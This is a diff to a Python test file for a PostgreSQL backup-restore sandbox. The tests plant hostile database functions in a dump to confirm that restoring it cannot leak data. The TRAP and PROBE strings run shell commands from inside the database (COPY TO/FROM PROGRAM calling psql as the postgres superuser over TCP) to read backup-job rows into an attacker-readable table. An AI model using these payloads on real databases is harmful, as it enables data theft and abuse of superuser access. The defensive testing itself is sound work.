@@ -31,9 +31,11 @@ BEGIN
         EXCEPTION WHEN others THEN NULL;
         END;
         BEGIN
-            -- read the queue with the restoring login's own identity, and leave the loot where
-            -- the attacker can read it
-            EXECUTE $c$COPY (SELECT 1) TO PROGRAM 'psql -X -q -d {queue_db} -c "INSERT INTO {schema}.loot $c$
+            -- as the OS user the sandbox runs as, reach the queue's server over TCP (the test
+            -- session's server trusts local TCP, as many dev machines do), read the queue as its
+            -- superuser, and leave the loot where the attacker can read it
+            EXECUTE $c$COPY (SELECT 1) TO PROGRAM 'psql -X -q -h {queue_host} -p {queue_port} -U postgres $c$
+                 || $c$-d {queue_db} -c "INSERT INTO {schema}.loot $c$
                  || $c$SELECT job_id::text FROM pggit.backup_jobs"'$c$;
         EXCEPTION WHEN others THEN NULL;
         END;
@@ -91,12 +93,19 @@ def _as(dsn: str, user: str):
 
 def _plant(dsn: str, attacker: str, variant: str, rows: int = 3) -> None:
     """The attacker, logged in as itself, writes the trap into its own schema."""
-    queue_db = psycopg2.extensions.parse_dsn(dsn)["dbname"]
+    queue = psycopg2.extensions.parse_dsn(dsn)
     conn = _as(dsn, attacker)
     try:
         with conn.cursor() as cur:
             cur.execute(f'CREATE TABLE "{attacker}".loot (stolen text)')
-            cur.execute(TRAP.format(schema=f'"{attacker}"', attacker=attacker, queue_db=queue_db))
+            trap = TRAP.format(
+                schema=f'"{attacker}"',
+                attacker=attacker,
+                queue_host=queue["host"],
+                queue_port=queue["port"],
+                queue_db=queue["dbname"],
+            )
+            cur.execute(trap)
             cur.execute(VARIANTS[variant].format(schema=f'"{attacker}"'))
             cur.execute(f'INSERT INTO "{attacker}".t (x) SELECT generate_series(1, %s)', (rows,))
     finally:
@@ -165,7 +174,45 @@ def test_hostile_function_in_a_drilled_dump_cannot_read_the_queue_database(servi
         stolen = scalar(loot, f'SELECT count(*) FROM "{attacker}".loot')
     finally:
         loot.close()
-    assert stolen == 0, "the trap read pggit.backup_jobs with the drill's identity and left it for its author"
+    assert stolen == 0, "the trap reached the queue's server over TCP from the drill and read pggit.backup_jobs"
+
+
+# Run by the restore of each row: tries the queue's server over TCP from inside the drill's server
+# and makes the restore fail with what it got, so the drill's error shows what the network allowed.
+PROBE = """CREATE FUNCTION {schema}.probe(x integer) RETURNS boolean LANGUAGE plpgsql VOLATILE AS $f$
+DECLARE
+    got text;
+BEGIN
+    IF current_user = '{attacker}' THEN
+        RETURN true;
+    END IF;
+    CREATE TEMP TABLE IF NOT EXISTS probe_output (line text);
+    EXECUTE $c$COPY probe_output FROM PROGRAM 'psql -X -A -t -h {host} -p {port} -U postgres -d postgres $c$
+         || $c$-c "SELECT 4200 + 42" 2>&1 | tr "\\t" " "; true'$c$;
+    SELECT string_agg(line, ' ') INTO got FROM probe_output;
+    RAISE EXCEPTION 'network probe: %', got;
+END
+$f$;
+CREATE TABLE {schema}.probed (x integer CHECK ({schema}.probe(x)));
+INSERT INTO {schema}.probed VALUES (1)"""
+
+
+def test_hostile_function_in_a_drilled_dump_reaches_no_server_over_the_network(service, db, attacker, backup_dir):
+    queue = psycopg2.extensions.parse_dsn(db.dsn)
+    conn = _as(db.dsn, attacker)
+    try:
+        conn.cursor().execute(
+            PROBE.format(schema=f'"{attacker}"', attacker=attacker, host=queue["host"], port=queue["port"])
+        )
+    finally:
+        conn.close()
+    service()
+    backup_id, drill = _dump_and_drill(db, backup_dir)
+    error = drill["last_error"] or ""
+    assert drill["job_state"] == "permanently_failed" and "network probe:" in error, error
+    assert "4242" not in error, "the drill's server reached the queue's server over TCP"
+    assert f'connection to server at "{queue["host"]}", port {queue["port"]} failed: Network is unreachable' in error
+    assert scalar(db, "SELECT restore_test_result FROM pggit.backups WHERE backup_id = %s", (backup_id,)) == "failed"
 
 
 def test_killed_worker_leaves_no_postgres_of_its_drill_running(service, db, attacker, backup_dir, drill_tmpdir):
@@ -207,14 +254,10 @@ def test_killed_worker_leaves_no_postgres_of_its_drill_running(service, db, atta
     )
 
     # the attacker's slow rows keep pg_restore busy: the worker dies in the middle of the drill
-    def restoring() -> bool:  # a child may exit between the listing and the look at its name
-        children = set(worker.children(recursive=True))
-        return any(p.info["name"] == "pg_restore" for p in psutil.process_iter(["name"]) if p in children)
-
-    wait_until(restoring, 30, "pg_restore running")
+    wait_until(lambda: "pg_restore" in _names(worker.children(recursive=True)), 30, "pg_restore running")
     os.kill(worker.pid, signal.SIGKILL)
     wait_until(
-        lambda: not postmaster.is_running() or postmaster.status() == psutil.STATUS_ZOMBIE,
+        lambda: _gone(postmaster),
         15,
         "the killed worker's drill server gone",
     )
@@ -231,6 +274,25 @@ def test_killed_worker_leaves_no_postgres_of_its_drill_running(service, db, atta
         "no drill server outlives its drill"
     )
     assert not list(drill_tmpdir.iterdir())
+
+
+def _names(procs: list[psutil.Process]) -> set[str]:
+    """The names of those of `procs` still there: one may exit between the listing and the look."""
+    names = set()
+    for proc in procs:
+        try:
+            names.add(proc.name())
+        except psutil.NoSuchProcess:
+            pass
+    return names
+
+
+def _gone(proc: psutil.Process) -> bool:
+    """True once `proc` has exited (a zombie has), also when it goes between two looks at it."""
+    try:
+        return not proc.is_running() or proc.status() == psutil.STATUS_ZOMBIE
+    except psutil.NoSuchProcess:
+        return True
 
 
 @pytest.fixture
